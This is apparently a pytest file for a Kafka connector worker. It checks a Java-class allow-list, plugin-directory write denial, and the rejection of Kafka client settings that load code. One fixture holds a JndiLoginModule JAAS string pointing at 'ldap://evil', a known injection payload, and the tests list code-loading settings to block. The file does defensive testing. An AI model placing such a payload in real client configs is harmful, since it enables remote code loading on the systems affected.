"""Which Java classes configs may name, and which settings of Kafka's clients."""

from pathlib import Path

import pytest

from drover.java_plugins import install
from drover.java_plugins.allowed import (
    class_fault,
    class_patterns,
    client_setting_violations,
    find_class,
)
from drover.java_plugins.values import JavaPluginError, Kind
from drover.policy.client_settings import OverridePolicy
from drover_worker.settings import WorkerSettings
from tests.support.compiled_plugins import compiled, jar, source_code

_PLAIN = 'org.apache.kafka.common.security.plain.PlainLoginModule required password="a;b";'
_JNDI = (
    "com.sun.security.auth.module.JndiLoginModule required "
    'user.provider.url="ldap://evil" useFirstPass="true";'
)


@pytest.mark.parametrize(
    ("allowed", "name", "may"),
    [
        (None, "org.acme.Orders", True),
        ("*", "org.acme.Orders", True),
        (",", "org.acme.Orders", False),
        ("org.acme.Orders", "org.acme.Orders", True),
        ("org.acme.Orders", "org.acme.Orders$Value", False),
        ("org.acme.*", "org.acme.shop.Orders$Value", True),
        ("org.acme.*", "org.acmeevil.Orders", False),
        ("org.other.*, org.acme.Mask$Value", "org.acme.Mask$Value", True),
    ],
)
def test_only_allowed_classes_may_be_named(allowed: str | None, name: str, may: bool) -> None:
    environ = {} if allowed is None else {"DROVER_JAVA_PLUGINS": allowed}
    fault = class_fault(name, environ)
    assert (fault is None) is may
    if fault is not None:
        assert f"the Java class {name} is not allowed: the worker's DROVER_JAVA_PLUGINS" in fault


@pytest.mark.parametrize("text", ["org acme", "org.*.Orders", "[a-z]", "org..acme", "?"])
def test_a_pattern_that_is_no_class_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="is not a class"):
        class_patterns(text)
    with pytest.raises(ValueError, match="DROVER_JAVA_PLUGINS must list Java classes"):
        WorkerSettings(java_plugins=text)


def test_with_an_access_file_no_class_is_allowed_by_default(tmp_path: Path) -> None:
    (tmp_path / "access.yaml").write_text("")
    closed = WorkerSettings.model_construct(access_file=str(tmp_path / "access.yaml"))
    for settings, allowed in (
        (WorkerSettings(), "*"),
        (closed, ","),
        (closed.model_copy(update={"java_plugins": "org.acme.*"}), "org.acme.*"),
    ):
        variables = settings.engine_settings().policy_variables()
        assert variables["DROVER_JAVA_PLUGINS"] == allowed


def test_connectors_may_not_write_where_plugins_are(tmp_path: Path) -> None:
    settings = WorkerSettings(plugin_home=str(tmp_path / "home"), plugin_path="/opt/a, /opt/b")
    denied = settings.engine_settings().denied_files
    assert {str(tmp_path / "home"), "/opt/a", "/opt/b"} <= set(denied)


def test_a_class_is_found_by_its_name_kind_and_version(tmp_path: Path) -> None:
    code = {"org.acme.Orders": source_code("Orders")}
    classes = compiled(tmp_path / "code", code)
    home = tmp_path / "home"
    for version in ("1.0", "1.1"):
        path = jar(tmp_path / f"acme-{version}.jar", classes, text=version)
        install.add(str(path), home, host=None)
    environ = {"DROVER_PLUGIN_HOME": str(home)}
    assert find_class("Orders", environ=environ).plugin == "acme@1.1"
    assert find_class("Orders", Kind.SOURCE, "[1.0]", environ=environ).plugin == "acme@1.0"
    with pytest.raises(JavaPluginError, match="is not allowed"):
        find_class("Orders", environ={**environ, "DROVER_JAVA_PLUGINS": "org.other.*"})


@pytest.mark.parametrize("policy", list(OverridePolicy))
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("sasl.jaas.config", _JNDI),
        ("producer.override.sasl.jaas.config", _JNDI),
        ("schema.history.internal.consumer.sasl.jaas.config", _PLAIN + _JNDI),
        ("a.sasl.jaas.config", "com.sun.security.auth.module.LdapLoginModule required;"),
        ("a.sasl.jaas.config", "com.sun.security.auth.module.Krb5LoginModule required;"),
        ("a.sasl.jaas.config", "no module"),
        ("signal.consumer.interceptor.classes", "org.acme.Evil"),
        ("consumer.override.sasl.login.callback.handler.class", "org.acme.Evil"),
        ("admin.ssl.engine.factory.class", "org.acme.Evil"),
        ("metric.reporters", "org.acme.Evil"),
    ],
)
def test_client_settings_that_load_code_are_rejected(
    policy: OverridePolicy, name: str, text: str
) -> None:
    (violation,) = client_setting_violations({"name": "a", name: text}, policy)
    assert violation.field == name
    assert "evil" not in violation.description
    assert 'password="a;b"' not in violation.description


def test_logins_and_tuning_are_accepted() -> None:
    config = {
        "schema.history.internal.producer.sasl.jaas.config": _PLAIN,
        "producer.override.linger.ms": "5",
        "interceptor.classes": "",
        "interceptor.classes.note": "text",
        "metric.reporters": None,
    }
    assert client_setting_violations(config, OverridePolicy.ALLOWLIST) == []
    (violation,) = client_setting_violations(config, OverridePolicy.NONE)
    assert violation.field == "producer.override.linger.ms"
